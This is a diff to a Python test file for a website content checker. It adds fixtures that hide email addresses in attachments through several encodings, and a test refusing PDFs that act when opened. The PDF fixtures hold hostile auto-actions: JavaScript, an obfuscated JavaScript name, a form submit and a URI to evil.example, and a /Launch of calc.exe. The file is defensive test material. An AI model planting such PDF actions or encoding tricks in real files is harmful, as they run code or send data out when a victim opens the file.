@@ -925,8 +925,8 @@ def test_a_hidden_address_compressed_in_an_attachment_is_an_error(
 
 
 def packed_ways(address: bytes) -> dict[str, bytes]:
-    """Return attachments that hold ``address`` packed each way the 28th and 29th attacks
-    packed one past the check: by name."""
+    """Return attachments that hold ``address`` packed each way the 28th, 29th and 31st
+    attacks packed one past the check: by name."""
     import base64
     import bz2
     import gzip
@@ -996,6 +996,19 @@ def packed_ways(address: bytes) -> dict[str, bytes]:
         "printable.eml": b"Content-Transfer-Encoding: quoted-printable\n\nWrite to "
         + address.replace(b"@", b"=40"),
         "junk-zip.gz": gzip.compress(b"JUNK" * 10 + zipped("a.txt", address)),
+        # the 31st attack's
+        "plain-text.png": b"\x89PNG\r\n\x1a\n\0\0\0\x20tEXtComment\0"
+        + address
+        + b"7\xb3\xbf\x16\0\0\0\0IEND",
+        "folded.ics": b"BEGIN:VCALENDAR\r\nDESCRIPTION:Write to "
+        + address[:8]
+        + b"\r\n "
+        + address[8:]
+        + b"\r\n",
+        "utf32.txt": ("Write to " + address.decode()).encode("utf-32"),
+        "escaped.css": b'p::after{content:"' + local + b"\\40 " + host + b'"}',
+        "hex.txt": (b"Write to " + address).hex().encode(),
+        "base32.txt": base64.b32encode(b"Write to " + address),
     }
 
 
@@ -1189,6 +1202,47 @@ def test_tex_in_escaped_brackets_is_a_warning(site: Write, app: Flask) -> None:
         result.output
     ), result.output
     assert "write $$…$$ for a formula" in result.output and ":5:" not in result.output
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
+        b"/OpenAction 4 0 R >> endobj 4 0 obj << /S /URI /URI (https://evil.example/) >>",
+        b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>",
+        b"/AA << /O << /S /Launch /F (calc.exe) >> >>",
+        b"/OpenAction << /S /J#61vaScript /JS (x) >>",
+    ],
+)
+def test_a_pdf_that_acts_when_opened_is_refused(site: Write, app: Flask, act: bytes) -> None:
+    """A PDF whose /OpenAction ran JavaScript, opened another site's address or sent a form
+    (the 31st attack) was published: browsers' PDF viewers run it when the file is opened.
+    Refused, naming what it does; a PDF with a link and a view to open at is not."""
+    site("files/x.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog " + act + b" >> endobj\n%%EOF\n")
+    site("files/fine.pdf", (
+        b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj\n"
+        b"5 0 obj << /Subtype /Link /A << /S /URI /URI (https://example.org/) >> >> endobj\n%%EOF\n"
+    ))  # fmt: skip
+    result = check(app)
+    assert "content/files/x.pdf: error: the PDF does more than show its pages: " in result.output
+    assert "files/fine.pdf" not in result.output, result.output
+
+
+def test_the_sites_own_picture_is_read_well_within_the_time_budget(site: Write) -> None:
+    """Its bytes as UTF-16 were read as text (every reading of an address people write), and
+    the 55 kB picture took 1.8 s of the 2 s budget: on a busy machine, the check refused it
+    now and then. Only text is read so; it takes a small part of the budget."""
+    import time
+
+    from tag_site.checks.site import hidden_in_attachment
+    from tag_site.content.store import ContentStore
+
+    site("data/members.yml", "- name: A\n  email: a@example.org\n  show_email: false\n")
+    loaded = ContentStore(Path(site("x.txt", "x").parent)).load()
+    picture = ROOT / "content/images/site-image.png"
+    started = time.process_time()
+    assert hidden_in_attachment(loaded, picture, picture.read_bytes()) == []
+    assert time.process_time() - started < 0.5  # 1.8 s before; 0.06 s measured
 
 
 def test_a_hidden_file_someone_meant_to_publish_is_a_warning(site: Write, app: Flask) -> None:
